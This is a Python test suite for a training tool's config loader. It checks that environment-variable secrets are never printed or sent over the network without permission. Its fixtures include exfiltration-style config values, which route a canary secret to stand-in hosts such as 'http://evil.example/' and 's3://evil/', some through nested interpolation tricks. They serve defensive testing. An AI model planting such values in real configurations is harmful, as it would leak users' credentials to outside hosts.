"""Values from the environment: used, never shown, and sent only if the user allows it."""

import re
from pathlib import Path

import pytest
import yaml

from tandem.config.keys import all_keys
from tandem.config.load import load_config, require_training_set
from tandem.config.tracked import tracked_metric
from tandem.errors import ConfigError, TandemError
from tandem.paths import check_run
from tandem.report.trackers.adapters import Opening
from tandem.training.run.directory import refuse_other_config

pytestmark = pytest.mark.usefixtures("of_a_command")

CANARY = "hf_CANARYcanary/42"
WOULD_BE_SENT = "would be sent over the network."


@pytest.fixture(autouse=True)
def hush(monkeypatch, tmp_path):
    monkeypatch.setenv("HUSH", CANARY)
    monkeypatch.chdir(tmp_path)


@pytest.fixture
def write(tmp_path):
    def write_file(text: str, name: str = "a.yaml") -> str:
        (tmp_path / name).write_text(text, encoding="utf-8")
        return str(tmp_path / name)

    return write_file


def refusal(file: str | None, *overrides: str, allow_env: tuple[str, ...] = ()) -> str:
    with pytest.raises(ConfigError) as caught:
        load_config(file, overrides, allow_env)
    return str(caught.value)


def nested(key: str, value: object) -> str:
    """dpo.val_period, 1 -> {dpo: {val_period: 1}}, as YAML."""
    for part in reversed(key.split(".")):
        value = {part: value}
    return yaml.safe_dump(value)


# Sent


def test_a_file_may_not_send_a_variable_to_its_own_address(write):
    file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://evil.example/${oc.env:HUSH}"}}')
    assert refusal(file) == (
        f'{file}: logger.mlflow.tracking_uri = "http://evil.example/${{oc.env:HUSH}}": the value of HUSH {WOULD_BE_SENT} If you '
        "trust the file, add --allow-env HUSH; otherwise set logger.mlflow.tracking_uri on the command line."
    )
    loaded = load_config(file, [], ["HUSH"])
    assert loaded.config.logger.mlflow.tracking_uri == f"http://evil.example/{CANARY}"
    assert loaded.options == ["--allow-env", "HUSH"]
    assert CANARY not in loaded.as_yaml()


@pytest.mark.parametrize(
    "text",
    [
        'logger: {wandb_enabled: true, wandb: {entity: evil, name: "${oc.env:HUSH}"}}',
        'logger: {wandb_enabled: true, wandb: {project: "a-${oc.env:HUSH,none}"}}',
        'logger: {mlflow_enabled: true, mlflow: {experiment_name: "${oc.env:HUSH}"}}',
        'logger: {mlflow_enabled: true, mlflow: "${oc.create:{tracking_uri: ${oc.env:HUSH}}}"}',
        'logger: "${oc.create:{mlflow_enabled: true, mlflow: {tracking_uri: ${oc.env:HUSH}}}}"',
        'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://e/${oc.decode:${oc.env:QUOTED}}"}}',
        'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://e/${reference.cache_dir}"}}\n'
        'reference: {cache_dir: "${oc.${run.name}:HUSH}"}\nrun: {name: env}',
        'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://e/${oc.select:reference.cache_dir}"}}\n'
        'reference: {cache_dir: "${oc.env:HUSH}"}',
        'logger: {tensorboard_enabled: true, tensorboard: {log_dir: "s3://evil/${oc.env:HUSH}"}}',
        'logger: {wandb_enabled: true, wandb: {entity: evil}}\nrun: {dir: "runs/${oc.env:HUSH}"}',
        'logger: {wandb_enabled: true, wandb: {entity: evil}}\nrun: {dir: "${oc.env:HUSH}/.."}',
        'logger: {wandb_enabled: true, wandb: {entity: evil}}\nrun: {name: "a${oc.env:SHORT}"}',
        'policy: {model_name: "evil/${oc.env:SHORT}"}',
        'policy: {model_name: evil/model, revision: "${oc.env:HUSH}"}',
        'policy: {tokenizer: {name: "evil/${oc.env:SHORT}"}}',
        'reference: {model: "evil/${oc.env:SHORT}"}',
        'data: {train: "evil/${oc.env:SHORT}"}',
        'data: {train: [embedded, {data_path: "evil/${oc.env:SHORT}"}]}',
        'data: {train: {data_path: evil/pairs, revision: "${oc.env:HUSH}"}}',
        'data: {train: embedded, val_data_paths: {b: {data_path: evil/pairs}}, default: {subset: "${oc.env:HUSH}"}}',
    ],
)
def test_a_file_may_not_send_a_variable_by_any_route(write, monkeypatch, text):
    monkeypatch.setenv("SHORT", "CANARY-42")
    monkeypatch.setenv("QUOTED", f'"{CANARY}"')
    said = refusal(write(text))
    assert WOULD_BE_SENT in said
    assert "CANARY" not in said
    load_config(write(text), [], ["HUSH", "SHORT", "QUOTED"])


def test_an_inherited_address_may_not_receive_a_variable(write):
    write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "${oc.env:HUSH}"}}', "parent.yaml")
    assert (
        f'/parent.yaml: logger.mlflow.tracking_uri = "${{oc.env:HUSH}}": the value of HUSH {WOULD_BE_SENT}'
        in refusal(write("defaults: parent.yaml"))
    )


def test_each_variable_has_to_be_allowed(write, monkeypatch):
    monkeypatch.setenv("OTHER", "elsewhere")
    file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://${oc.env:OTHER}/${oc.env:HUSH}"}}')
    assert "add --allow-env HUSH --allow-env OTHER; otherwise" in refusal(file)
    assert "add --allow-env OTHER; otherwise" in refusal(file, allow_env=("HUSH",))
    assert load_config(file, [], ["HUSH", "OTHER"]).options == ["--allow-env", "HUSH", "--allow-env", "OTHER"]


@pytest.mark.parametrize(
    "overrides",
    [
        ["logger.mlflow_enabled=true", "logger.mlflow.tracking_uri=http://mine/${oc.env:HUSH}"],
        ["logger.mlflow_enabled=true", "logger.mlflow={tracking_uri:'http://mine/${oc.env:HUSH}'}"],
    ],
)
def test_variables_typed_on_the_command_line_may_be_sent(write, overrides):
    loaded = load_config(write("run: {seed: 1}"), overrides)
    assert loaded.config.logger.mlflow.tracking_uri == f"http://mine/{CANARY}"
    # The run's config.yaml is a file: resumed from it, the variable has to be allowed.
    assert loaded.options == ["--allow-env", "HUSH"]


def test_a_file_may_not_pass_on_a_variable_typed_on_the_command_line(write):
    file = write('logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://evil/${reference.cache_dir}"}}')
    assert WOULD_BE_SENT in refusal(file, "reference.cache_dir=${oc.env:HUSH}")


@pytest.mark.parametrize(
    "text",
    [
        'logger: {wandb_enabled: false, wandb: {entity: "${oc.env:HUSH}"}}',
        'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "sqlite:///${oc.env:HUSH}/mlflow.db"}}',
        'logger: {log_dir: "${oc.env:HUSH}"}',
        'run: {dir: "${oc.env:HUSH}/runs/a"}\nlogger: {wandb_enabled: true}',
        'run: {dir: "${oc.env:HUSH}"}',
        'policy: {model_name: "/models/${oc.env:HUSH}"}',
        'data: {train: "data/${oc.env:HUSH}/pairs.jsonl"}',
        'reference: {cache_dir: "${oc.env:HUSH}"}',
        'logger: {mlflow_enabled: true, mlflow: {tracking_uri: "http://mine/${run.name}"}}',
    ],
)
def test_values_that_stay_on_this_machine_are_allowed(write, text):
    assert load_config(write(text), []).options == []


# Shown


@pytest.mark.parametrize(
    "text",
    [
        'reference: {cache_dir: "${oc.${run.name}:HUSH}"}\nrun: {name: env}',
        'reference: "${oc.create:{cache_dir: ${oc.env:HUSH}}}"',
        'reference: {cache_dir: "${oc.decode:${oc.env:QUOTED}}"}',
        'reference: {cache_dir: "${oc.select:logger.log_dir}"}\nlogger: {log_dir: "${oc.env:HUSH}"}',
        'data: {default: {prompt_key: "${oc.env:HUSH}"}, train: embedded, val_data_paths: {b: b.jsonl}}',
        'data: {default: "${oc.create:{prompt_key: ${oc.env:HUSH}}}", train: [{data_path: a.jsonl}, b.jsonl]}',
        'policy: {tokenizer: {chat_template_kwargs: {"a.b": "${oc.env:HUSH}", c: ["${oc.env:HUSH}", {d: 1}]}}}',
    ],
)
def test_the_printed_configuration_never_shows_a_variable(write, monkeypatch, text):
    monkeypatch.setenv("QUOTED", f'"{CANARY}"')
    loaded = load_config(write(text), [])
    assert CANARY in str(loaded.config)
    assert "CANARY" not in loaded.as_yaml()
    again = load_config(write(loaded.as_yaml(), "config.yaml"), [])
    assert again.config == loaded.config
    assert again.as_yaml() == loaded.as_yaml()


def test_text_that_needs_escapes_is_escaped_in_yaml_and_read_back(write):
    text = 'policy: {tokenizer: {chat_template_kwargs: {a: "b\\u202Ec\\x9B\\e[1m 中文", "\\u2066k": 1}}}'
    loaded = load_config(write(text), [])
    assert '      a: "b\\u202ec\\x9B\\e[1m 中文"\n      "\\u2066k": 1\n' in loaded.as_yaml()
    assert load_config(write(loaded.as_yaml(), "config.yaml"), []).config == loaded.config


def check_shows_nothing(file: str, key: str) -> None:
    """Neither the configuration nor any error before a run shows the canary."""
    shown = ""
    try:
        loaded = load_config(file, [] if key.startswith("data") else ["data.train.data_path=embedded"])
        shown = loaded.as_yaml()
        require_training_set(loaded.config)
        tracked_metric(loaded.config.checkpointing.metric_name, ["default"])
        check_run(loaded, fresh=False, per_pair=None)
    except TandemError as error:
        shown += str(error)
    assert not re.search("canary|123456", shown, re.IGNORECASE), key


@pytest.mark.parametrize("section", sorted({key.name.partition(".")[0] for key in all_keys()} | {"defaults", "nosuch"}))
def test_no_error_shows_a_variable_whatever_key_reads_it(write, section):
    names = [key.name for key in all_keys() if key.name.partition(".")[0] == section]
    for name in names or [section]:
        check_shows_nothing(write(nested(name, "${oc.env:HUSH}")), name)


# Each way to read a variable, at keys of each kind, with values that parts of are taken from.
WRITTEN = [
    "a ${oc.env:HUSH}",
    ["${oc.env:HUSH}", 1],
    {"b": "${oc.env:HUSH}"},
    "${oc.decode:${oc.env:HUSH}}",
    "${oc.create:${oc.env:YAML}}",
    "${oc.${oc.env:HUSH}:a}",
    "${run.${oc.env:HUSH}}",
    "${oc.env:${oc.env:HUSH}}",
    "${oc.decode:${oc.env:NUMBER}}",
]


@pytest.mark.parametrize("written", WRITTEN, ids=str)
def test_no_error_shows_a_variable_however_it_is_read(write, monkeypatch, written):
    monkeypatch.setenv("HUSH", "train:CANARYmetric '(")
    monkeypatch.setenv("YAML", "{CANARYkey: CANARYvalue, weight: CANARYnumber}")
    monkeypatch.setenv("NUMBER", "-123456.75")
    for key in (
        "run.name",
        "checkpointing.metric_name",
        "policy.packing.pack_length",
        "data.train",
        "policy.scheduler",
    ):
        check_shows_nothing(write(nested(key, written)), key)


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ('logger: {wandb: {project: "${oc.env:HUSH}"}}', "logger.wandb.project = $HUSH has no effect"),
        (
            'checkpointing: {checkpoint_must_save_by: "${oc.env:HUSH}"}',
            "checkpoint_must_save_by = '$HUSH' is not a time",
        ),
        (
            'data: {train: {data_path: a, prompt_key: "${oc.env:HUSH}", chosen_key: "${oc.env:HUSH}"}}',
            "prompt_key and chosen_key are both '$HUSH'",
        ),
        ('policy: {scheduler: "${oc.env:HUSH}"}', "policy.scheduler = $HUSH is text"),
        ('policy: {scheduler: {name: "${oc.env:HUSH}"}}', "policy.scheduler.name = $HUSH is not a known schedule"),
        ('policy: {lora: {target_modules: "(${oc.env:HUSH}"}}', 'policy.lora.target_modules = "($HUSH" is'),
        (
            'dpo: {preference_loss: simpo}\nreference: {model: "${oc.env:HUSH}"}',
            "reference.model = $HUSH has no effect",
        ),
    ],
)
def test_validation_errors_show_the_name_of_a_variable_instead_of_its_value(write, text, problem):
    assert problem in refusal(write(text))


def test_an_error_in_a_parent_key_does_not_show_a_variable(write):
    file = write('policy: {packing: ["${oc.env:HUSH}"]}')
    assert refusal(file).startswith(f'{file}: policy.packing = ["${{oc.env:HUSH}}"]: ')
    assert "CANARY" not in refusal(write('data: {train: [{data_path: a, split: {a: "${oc.env:HUSH}"}}]}'))


def test_an_error_does_not_show_a_password_in_an_address(write):
    file = write('logger: {mlflow: {tracking_uri: "http://me:p@ss/word@host/a"}}')
    assert refusal(file) == (
        f"{file}: logger.mlflow.tracking_uri = http://host/a has no effect: mlflow is not enabled. Set "
        "logger.mlflow_enabled=true; to keep mlflow off on purpose, set it to false."
    )


def test_the_difference_to_a_stored_run_does_not_show_a_variable(write, tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    (run / "config.yaml").write_text(load_config(None, ["dpo.max_num_epochs=2"]).as_yaml(), encoding="utf-8")
    loaded = load_config(write('policy: {tokenizer: {chat_template_kwargs: {a: "${oc.env:HUSH}"}}}'), [])
    with pytest.raises(TandemError) as caught:
        refuse_other_config(run, loaded)
    assert "policy.tokenizer.chat_template_kwargs.a: None there, '${oc.env:HUSH}' now" in str(caught.value)
    assert "CANARY" not in str(caught.value)


def test_trackers_get_the_configuration_as_written(write):
    loaded = load_config(write('reference: {cache_dir: "${oc.${run.name}:HUSH}"}\nrun: {name: env}'), [])
    config = yaml.safe_load(loaded.as_yaml())
    opening = Opening(str(Path("runs/a")), "logs", 0, [], loaded.config.logger.model_dump(), config)
    assert "CANARY" not in str(opening)


# Many errors


def test_only_the_first_of_many_mistakes_are_shown(write):
    file = write(yaml.safe_dump({f"key{number}": 1 for number in range(500)}))
    lines = refusal(file).split("\n")
    assert lines[0] == f"{file}: unknown key key0. `tandem config` lists all keys."
    assert (len(lines), lines[-1]) == (21, "... and 480 more.")


def test_a_very_long_key_is_reported_quickly(write):
    assert refusal(write(f"? {'a' * 100_000}\n: 1")).endswith("a. `tandem config` lists all keys.")
